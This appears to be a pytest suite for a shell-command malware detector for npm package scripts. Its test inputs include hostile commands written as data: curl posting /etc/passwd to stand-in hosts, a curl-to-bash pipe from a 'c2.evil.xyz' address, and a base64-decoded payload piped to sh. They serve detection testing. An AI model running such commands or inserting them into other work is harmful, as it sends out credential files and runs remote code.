from __future__ import annotations

from npmsift.shellcmd import (RuleHit, UrlVerdict, classify_command,
                              extract_urls, match_rules, parse_command,
                              trace_sh_file)


def hit_ids(command: str) -> list[str]:
    return [h.rule_id for h in match_rules(parse_command(command))]


def test_tokenize_echo_hello():
    ast = parse_command("echo hello")
    assert [(t.text, t.role) for t in ast.tokens] == [
        ("echo", "program"), ("hello", "argument")]


def test_tokenize_curl_with_data_file():
    ast = parse_command("curl -d @/etc/passwd http://x.oastify.xyz")
    assert ast.tokens[0].text == "curl"
    assert ast.tokens[0].role == "program"
    texts = [t.text for t in ast.tokens]
    assert "@/etc/passwd" in texts
    assert "http://x.oastify.xyz" in texts


def test_pipeline_program_order():
    ast = parse_command("cat /etc/host | base64 | curl -d @- http://e.xyz")
    assert ast.programs() == ["cat", "base64", "curl"]


def test_command_substitution_parsed_recursively():
    ast = parse_command('echo "$(whoami)" > /tmp/o')
    texts = [t.text for t in ast.tokens]
    assert "whoami" in texts
    roles = {t.text: t.role for t in ast.tokens}
    assert roles["whoami"] == "program"
    assert roles["/tmp/o"] == "redirect"


def test_unbalanced_quote_degrades():
    ast = parse_command("echo 'unterminated")
    assert ast.parse_degraded
    assert ast.tokens[0].text == "echo"


def test_rule_whoami():
    assert hit_ids("whoami") == ["R3"]


def test_rule_chmod_and_passwd():
    hits = match_rules(parse_command("chmod 777 /etc/passwd"))
    assert [(h.rule_id, h.matched_token) for h in hits] == [
        ("R2", "chmod"), ("R6", "/etc/passwd")]


def test_benign_ls_no_hits():
    assert hit_ids("ls -la") == []


def test_classify_exfil_is_m1():
    cmd = "curl -d @/etc/passwd http://x9q4.oastify.xyz/c"
    hits = match_rules(parse_command(cmd))
    assert {h.rule_id for h in hits} >= {"R4", "R6"}
    urls = [UrlVerdict(u, "malicious", 0.9)
            for u in extract_urls(parse_command(cmd))]
    assert classify_command(hits, urls) == {"M1"}


def test_classify_download_script_is_m3():
    hits = [RuleHit("R4", "wget", 0), RuleHit("R8", "payload.sh", 1)]
    assert classify_command(hits) == {"M3"}


def test_classify_pipe_to_shell_is_m4_m3():
    cmd = "curl http://c2.evil.xyz/x.sh | /bin/bash"
    hits = match_rules(parse_command(cmd))
    cats = classify_command(hits, [UrlVerdict("http://c2.evil.xyz/x.sh",
                                              "malicious", 0.8)])
    assert cats == {"M3", "M4"}


def test_classify_lone_r3_empty():
    assert classify_command([RuleHit("R3", "whoami", 0)]) == set()


def test_classify_empty_hits():
    assert classify_command([]) == set()


def test_order_reversed_negative():
    # /etc/passwd before curl: R6 -> R4 does not satisfy R4 -> R6
    hits = [RuleHit("R6", "/etc/passwd", 0), RuleHit("R4", "curl", 1)]
    assert classify_command(hits) == set()


def test_benign_url_gates_network_sequences():
    hits = [RuleHit("R4", "curl", 0), RuleHit("R8", "install.sh", 1)]
    benign = [UrlVerdict("https://github.com/x/install.sh", "benign", 0.0)]
    assert classify_command(hits, benign) == set()
    malicious = [UrlVerdict("http://zz.xyz/install.sh", "malicious", 0.9)]
    assert classify_command(hits, malicious) == {"M3"}


def test_gate_only_applies_to_network_driven():
    # M2 via R2 -> R6 is not URL-driven; a benign URL must not gate it
    hits = [RuleHit("R2", "cat", 0), RuleHit("R6", "/etc/shadow", 1),
            RuleHit("R4", "curl", 2)]
    benign = [UrlVerdict("https://example.org/x", "benign", 0.0)]
    assert classify_command(hits, benign) == {"M2"}


def test_monotone_under_appended_hits():
    base = [RuleHit("R4", "curl", 0), RuleHit("R6", "/etc/passwd", 1)]
    extra = base + [RuleHit("R3", "whoami", 2), RuleHit("R1", "sh", 3)]
    assert classify_command(base) <= classify_command(extra)


def test_base64_exec_is_m2():
    cmd = "echo cGF5bG9hZA== | base64 -d | sh"
    hits = match_rules(parse_command(cmd))
    assert classify_command(hits) == {"M2"}


def test_exe_token_is_m3():
    hits = match_rules(parse_command("start update.exe"))
    assert classify_command(hits) == {"M3"}


def test_trace_sh_file_static(tmp_path):
    script = tmp_path / "pre.sh"
    script.write_text("#!/bin/sh\n# setup\nwhoami\ncurl http://a.xyz/e \\\n"
                      "  -o /tmp/e.sh\n")
    asts, flags = trace_sh_file(script, mode="static")
    assert flags == []
    assert [a.programs()[0] for a in asts] == ["whoami", "curl"]


def test_trace_sh_file_sandboxed_fallback(tmp_path):
    script = tmp_path / "x.sh"
    script.write_text("hostname\n")
    asts, flags = trace_sh_file(script, mode="sandboxed", runner_cmd=None)
    assert "sandbox-unavailable" in flags
    assert asts[0].programs() == ["hostname"]


def test_trace_sh_file_sandboxed_with_runner(tmp_path):
    script = tmp_path / "x.sh"
    script.write_text("hostname\n")
    runner = tmp_path / "runner.sh"
    runner.write_text("#!/bin/sh\necho '+ hostname'\necho '+ uname -a'\n")
    runner.chmod(0o755)
    asts, flags = trace_sh_file(script, mode="sandboxed",
                                runner_cmd=[str(runner), "{script}"])
    assert flags == []
    assert [a.programs()[0] for a in asts] == ["hostname", "uname"]
